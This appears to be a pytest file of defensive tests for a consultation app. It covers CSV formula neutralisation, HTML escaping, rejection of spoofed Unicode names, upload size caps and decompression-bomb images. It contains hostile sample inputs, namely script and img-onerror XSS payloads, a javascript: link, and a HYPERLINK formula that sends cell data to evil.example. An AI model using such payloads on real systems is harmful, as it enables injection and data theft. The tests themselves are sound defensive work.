"""Hostile input: formula cells, HTML and script, invisible and bidi characters, bombs."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from curation.access import accounts, auth
from curation.access.actors import Actor, Role
from curation.cards import brand
from curation.errors import UnusableInput
from curation.exports import csv_text
from curation.store.foundation import Respondent, Response
from curation.unicode_safety import contains_spoofing, strip_spoofing

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _person(db, consultation, key: str, name: str, text: str) -> int:
    with db.session() as s:
        r = Respondent(
            consultation_id=consultation.id,
            source_key=key,
            name=name,
            organisation=f"{IMG} Ltd",
            region="Wales",
            consent_to_quote=True,
            consent_raw="Yes",
        )
        r.responses = [
            Response(
                question_id=consultation.questions[0].id,
                text=text,
                content_hash=hashlib.sha256(text.encode()).hexdigest(),
            )
        ]
        s.add(r)
        s.flush()
        return r.id


def test_formula_cells_are_imported_verbatim_and_exported_neutralised(
    db, consultation, admin, tmp_path
):
    """A formula in an answer is kept as the respondent's words; any CSV of it is inert."""
    from curation.ingest import import_file

    path = tmp_path / "export.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Respondent ID", "Name", "May we quote you?", consultation.questions[0].text])
        w.writerow(["1", "@Ann", "Yes", FORMULA])
        w.writerow(["2", "Bob", "Yes", "-1+2 is how I'd rate it"])
    with db.session() as s:
        import_file(s, admin, consultation.id, path)
    with db.session() as s:
        rows = [
            {"name": r.name, "text": r.responses[0].text}
            for r in s.scalars(select(Respondent).order_by(Respondent.id))
        ]
    assert rows[0] == {"name": "@Ann", "text": FORMULA}
    parsed = list(csv.reader(io.StringIO(csv_text(rows, ["name", "text"]))))
    assert parsed[1] == ["'@Ann", "'" + FORMULA]
    assert parsed[2][1] == "'-1+2 is how I'd rate it"


def test_html_and_script_in_answers_render_escaped_on_the_responses_page(db, consultation):
    """Answers and names with HTML, script and Markdown show as literal text, never as markup."""
    text = f"{SCRIPT} {IMG} **bold** [link](javascript:alert(1)) :red[red] $x^2$"
    _person(db, consultation, "h1", f"<b>Eve</b> {SCRIPT}", text)
    at = AppTest.from_file(str(ROOT / "app_pages/responses.py"), default_timeout=30)
    at.session_state["actor"] = Actor("vic", Role.VIEWER)
    at.run()
    assert not at.exception
    shown = [t.value for t in at.text]
    assert any(SCRIPT in v and IMG in v for v in shown), "the answer is shown as plain text"
    for md in [*at.markdown, *at.caption]:
        assert not md.proto.allow_html, "nothing on the page may allow raw HTML"
        assert not re.search(r"(?<!\\)<", md.value), f"unescaped markup in {md.value!r}"
    assert any("Eve" in md.value for md in at.markdown)


@pytest.mark.parametrize(
    "name",
    ["admin\u200b", "\u202eadmin", "ad\u2066min", "adm\ufeffin", "admin\x00", "bob\u00ad"],
)
def test_user_names_with_invisible_or_bidi_characters_are_refused(db, admin, name):
    """A user name that would look like another (zero-width, RTL override, controls) is refused."""
    with db.session() as s, pytest.raises(UnusableInput, match="invisible"):
        accounts.create_user(s, admin, name, "viewer", password="a long enough password")


def test_lookalike_name_does_not_sign_in_as_the_real_user(db, admin):
    """Signing in as "admin" plus a zero-width space does not reach "admin"."""
    with db.session() as s:
        accounts.create_user(s, admin, "admin", "admin", password="the admin password")
    with db.session() as s:
        assert auth.authenticate(s, "admin\u200b", "the admin password") is None


def test_spoofing_characters_are_detected_and_stripped():
    """Bidi overrides and zero-width spaces are found and removed; joiners scripts need stay."""
    assert contains_spoofing("Ann\u202eelpmaxE")
    assert strip_spoofing("Ann\u202eelpm\u200baxE") == "AnnelpmaxE"
    family = "👩\u200d👩\u200d👧"  # ZWJ emoji sequence
    persian = "می\u200cخواهم"  # ZWNJ is part of the spelling
    assert not contains_spoofing(family) and not contains_spoofing(persian)
    assert not contains_spoofing("مرحبا بالعالم") and not contains_spoofing("שלום")


def test_bidi_override_in_an_answer_is_shown_as_characters(db, consultation):
    """An answer with an RTL override is shown with st.text, not interpreted as markup."""
    text = "I agree \u202eon every point\u202c with the plan"
    _person(db, consultation, "b1", "Ann Example", text)
    at = AppTest.from_file(str(ROOT / "app_pages/responses.py"), default_timeout=30)
    at.session_state["actor"] = Actor("vic", Role.VIEWER)
    at.run()
    assert not at.exception
    assert any(text in t.value for t in at.text)


def test_oversized_export_is_refused_before_reading(db, consultation, admin, tmp_path, monkeypatch):
    """An export over the importer's size cap is refused with a clear message, nothing written."""
    from curation.ingest import import_file, readers

    monkeypatch.setattr(readers, "MAX_FILE_BYTES", 1000)
    path = tmp_path / "big.csv"
    path.write_text("Name,Answer\n" + "x,y\n" * 1000)
    with db.session() as s, pytest.raises(UnusableInput, match="limit"):
        import_file(s, admin, consultation.id, path)
    with db.session() as s:
        assert s.scalars(select(Respondent)).first() is None


def test_oversized_consultation_file_is_refused(tmp_path):
    """A consultation TOML over 1 MB is refused."""
    from curation.consultations import MAX_FILE_BYTES, read_consultation_file

    path = tmp_path / "huge.toml"
    path.write_text("# " + "x" * (MAX_FILE_BYTES + 1))
    with pytest.raises(UnusableInput, match="larger than"):
        read_consultation_file(path)


def test_upload_caps_exist_for_every_kind_and_are_checked_server_side():
    """Every upload kind has a cap under 250 MB and oversize sizes are refused."""
    from ui.uploads import UPLOAD_CAPS_MB, within_cap

    for kind, cap in UPLOAD_CAPS_MB.items():
        assert 0 < cap <= 250
        assert within_cap(cap * 1024 * 1024, kind)
        assert not within_cap(cap * 1024 * 1024 + 1, kind)


def test_every_upload_widget_has_its_own_cap():
    """No page calls st.file_uploader without max_upload_size (use ui.uploads.capped_uploader)."""
    import ast

    offenders = []
    for page in sorted((ROOT / "app_pages").glob("*.py")):
        for node in ast.walk(ast.parse(page.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "file_uploader"
                and not any(k.arg == "max_upload_size" for k in node.keywords)
            ):
                offenders.append(f"{page.name}:{node.lineno}")
    assert offenders == []


def test_no_page_renders_html_unsafely():
    """No page or UI module passes unsafe_allow_html=True or uses st.html with data."""
    offenders = []
    for path in sorted(
        [*(ROOT / "app_pages").glob("*.py"), *(ROOT / "ui").glob("*.py"), ROOT / "dashboard.py"]
    ):
        source = path.read_text(encoding="utf-8")
        if "unsafe_allow_html=True" in source or "st.html(" in source:
            offenders.append(path.name)
    assert offenders == []


def test_error_details_are_hidden_and_uploads_capped_in_config():
    """The Streamlit config hides tracebacks and caps uploads at 50 MB."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] in (False, "none")
    assert config["server"]["maxUploadSize"] == 50


def _bomb_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, format="PNG", optimize=True)
    return out.getvalue()


def test_decompression_bomb_image_is_refused_before_decoding():
    """A tiny PNG that declares 400 million pixels is refused by the logo check."""
    data = _bomb_png(20_000, 20_000)
    assert len(data) < brand.MAX_LOGO_BYTES  # small on disk: that is the point of a bomb
    with pytest.raises(UnusableInput, match="pixels"):
        brand.validate_logo(data)


@pytest.mark.parametrize(
    "data",
    [
        b"GIF89a" + b"\0" * 100,
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
        b"",
    ],
    ids=["gif", "svg", "truncated-png", "empty"],
)
def test_images_outside_the_allow_list_or_broken_are_refused(data):
    """Only PNG and JPEG that decode fully are accepted as images."""
    with pytest.raises(UnusableInput):
        brand.validate_logo(data)
